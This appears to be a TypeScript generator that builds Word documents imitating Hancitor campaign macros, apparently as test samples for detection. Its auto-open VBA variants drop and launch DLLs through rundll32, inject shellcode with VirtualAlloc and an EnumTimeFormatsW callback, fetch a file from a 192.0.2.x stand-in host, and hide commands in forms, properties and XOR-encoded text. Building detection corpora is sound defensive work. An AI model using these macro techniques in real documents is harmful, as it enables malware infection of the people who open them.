/** Documents after campaigns of Hancitor. */

import { LABEL, powershell, TEXT_BOX } from './common.ts'
import { disguiseOf } from './disguise.ts'
import { doc, docm } from './office.ts'

/** A library from an embedded object or from the text, and code in memory (2018 to 2021). */
export function hancitor(i: number): Buffer {
  const d = disguiseOf(400 + i)
  const [go, path, part, box, form] = [d.name(), d.name(), d.name(), d.name(), d.name()]
  const auto = (body: string, more = ''): Record<string, string> => ({
    ThisDocument: `Sub Document_Open()\n${d.junk(2)}\n${body}\nEnd Sub\n${more}`,
  })
  const dll = `Environ("TEMP") & "\\${path}.dll"`
  const write = i % 2 === 0 ? doc : docm
  const run = (argument: string): string => `Shell "rundll32.exe " & ${argument} & ",Start", 0`
  const hex = Buffer.from(`MZ${d.name()}${d.name()}`).toString('hex')
  const memory = `Private Declare PtrSafe Function ${box} Lib "kernel32" Alias "VirtualAlloc" (ByVal a As LongPtr, ByVal b As Long, ByVal c As Long, ByVal d As Long) As LongPtr\nPrivate Declare PtrSafe Function ${part} Lib "ntdll" Alias "RtlMoveMemory" (ByVal a As LongPtr, b As Any, ByVal c As Long) As Long\nPrivate Declare PtrSafe Function ${form} Lib "kernel32" Alias "EnumTimeFormatsW" (ByVal a As LongPtr, ByVal b As Long, ByVal c As Long) As Long\n`
  const variants: (() => Buffer)[] = [
    () =>
      write({
        modules: auto(
          `Selection.MoveDown\nSelection.TypeBackspace\nSelection.Copy\n${path} = Options.DefaultFilePath(wdUserTemplatesPath) & "\\W0rd.dll"\nName ${dll} As ${path}\n${run(path)}`,
        ),
      }),
    () =>
      write({
        modules: auto(
          `${part} = Environ("APPDATA") & "\\Static.dll"\nFileCopy ${dll}, ${part}\nApplication.Run "${go}", ${part}`,
          `Sub ${go}(${box})\n${run(box)}\nEnd Sub`,
        ),
      }),
    () =>
      docm({
        modules: auto(
          `Dim ${part} As Integer\n${path} = ${dll}\nOpen ${path} For Binary As #1\nFor ${part} = 1 To Len("${hex}") Step 2\nPut #1, , CByte("&H" & Mid("${hex}", ${part}, 2))\nNext\nClose #1\n${run(path)}`,
        ),
      }),
    () =>
      doc({
        modules: {
          ...auto(`${go}`),
          Module1: `${memory}Sub ${go}()\nDim b() As Byte\nb = Array(252, 232, 130, 0, 0, 0, 96, 137, 229)\nx = ${box}(0, UBound(b), &H1000, &H40)\n${part} x, b(0), UBound(b)\n${form} x, 0, 0\nEnd Sub`,
        },
      }),
    () =>
      docm({
        modules: {
          ...auto(`${go}`),
          Module1: `${memory}Sub ${go}()\nDim b() As Byte\nb = ${form}1(UserForm1.Label1.Caption)\nx = ${box}(0, UBound(b), &H1000, &H40)\n${part} x, b(0), UBound(b)\n${form} x, 0, 0\nEnd Sub\nFunction ${form}1(s)\nEnd Function`,
        },
        forms: { UserForm1: [{ name: 'Label1', type: LABEL, caption: 'fc4883e4f0e8cc0000'.repeat(20) }] },
      }),
    () =>
      write({
        modules: auto(
          `Set ${part} = CreateObject("Shell.Application")\n${part}.ShellExecute "rundll32", ${form}.${box}.Tag, "", "open", 0`,
        ),
        forms: { [form]: [{ name: box, type: LABEL, tag: `C:\\Users\\Public\\${path}.dll,Start` }] },
      }),
    () =>
      docm({
        modules: auto(
          `${path} = ${dll}\nDim ${part} As Object\nSet ${part} = CreateObject("MSXML2.XMLHTTP")\n${part}.Open "GET", ${d.joined(`http://192.0.2.${i}/a`)}, False\n${part}.Send\nWith CreateObject("ADODB.Stream")\n.Type = 1\n.Open\n.Write ${part}.responseBody\n.SaveToFile ${path}, 2\nEnd With\n${run(path)}`,
        ),
      }),
    () =>
      write({
        modules: { ...auto(`Load ${form}`), [form]: `Private Sub UserForm_Initialize()\nShell ${box}, 0\nEnd Sub` },
        forms: { [form]: [{ name: box, type: TEXT_BOX, value: `rundll32 \\\\192.0.2.${i}\\s\\a.dll,Start` }] },
      }),
    () =>
      docm({
        modules: {
          ...auto(`Dim ${part} As New ${form}\n${part}.${go}`),
          [form]: `Public Sub ${go}()\nShell Me.${box}.Text, 0\nEnd Sub`,
        },
        forms: { [form]: [{ name: box, type: TEXT_BOX, value: `rundll32 \\\\192.0.2.${i}\\s\\a.dll,Start` }] },
      }),
    () =>
      write({
        modules: auto(
          `Documents.Open FileName:=Environ("TEMP") & "\\${path}.dot", PasswordDocument:="doyouknowthat", Visible:=False\nShell Environ("COMSPEC") & " /c start rundll32 %TEMP%\\${path}.dll,Start", 0`,
        ),
      }),
    () =>
      docm({
        modules: auto(
          `${path} = ActiveDocument.BuiltInDocumentProperties("Subject") & ActiveDocument.BuiltInDocumentProperties("Title")\nCreateObject(ActiveDocument.BuiltInDocumentProperties("Category")).Run ${path}, 0`,
        ),
        core: { subject: 'rundll32 \\\\192.0', title: `.2.${i}\\s\\a.dll,Start`, category: 'WScript.Shell' },
      }),
    () =>
      docm({
        modules: auto(
          `Dim ${part}, ${path}\n${path} = ""\nFor Each ${part} In ActiveDocument.Paragraphs\n${path} = ${path} & Chr(Val("&H" & ${part}.Range.Text) Xor 31)\nNext\nShell ${path}, 0`,
        ),
        paragraphs: [...powershell(i)].map((letter) => (letter.charCodeAt(0) ^ 31).toString(16)),
      }),
  ]
  return (variants[i] as () => Buffer)()
}
